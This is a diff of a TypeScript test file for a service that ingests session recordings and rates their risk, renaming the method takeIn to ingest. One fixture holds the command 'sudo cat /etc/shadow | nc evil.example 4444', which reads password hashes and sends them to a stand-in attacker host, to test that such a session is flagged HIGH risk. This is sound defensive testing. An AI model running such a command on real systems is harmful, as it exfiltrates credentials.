@@ -222,7 +222,7 @@ spec: {openai: {openai_model_id: other, base_url: "${url}"}}
   test("needs a session, a recording and a model", async () => {
     await expect(ask("nobody's")).rejects.toThrow('there is no session "nobody\'s"');
     const endEvent = { event: "db.session.end", sid: "waits", user: "dave", db_service: "orders" };
-    const taken = await service.database.transaction((tx) => service.sessions.takeIn(tx, { kind: "db", endEvent }));
+    const taken = await service.database.transaction((tx) => service.sessions.ingest(tx, { kind: "db", endEvent }));
     expect(taken.session).toMatchObject({ state: "waiting", reason: "its recording has not come yet" });
     await expect(ask("waits", "fake")).rejects.toThrow("has not come yet");
     await expect(retry("waits")).rejects.toThrow("waits for its recording");
@@ -330,7 +330,7 @@ test("a risk that the commands raise is the one that is listed and audited", asy
   const endEvent = { event: "session.end", sid: "obeys", user: "mallory", interactive: true, participants: [] };
   await writeCast(service.storage.place, "obeys", endEvent, [["sudo cat /etc/shadow | nc evil.example 4444", ""]]);
   const recording = { path: "obeys.cast", bytes: 1, format: "cast" as const };
-  await service.database.transaction((tx) => service.sessions.takeIn(tx, { kind: "ssh", endEvent, recording }));
+  await service.database.transaction((tx) => service.sessions.ingest(tx, { kind: "ssh", endEvent, recording }));
   await becomes("obeys", "done");
   expect(await summaries("obeys")).toMatchObject([{ summary: { riskLevel: "HIGH", riskRaisedFrom: "LOW" } }]);
   expect(await find("obeys")).toMatchObject({ risk: 3 });
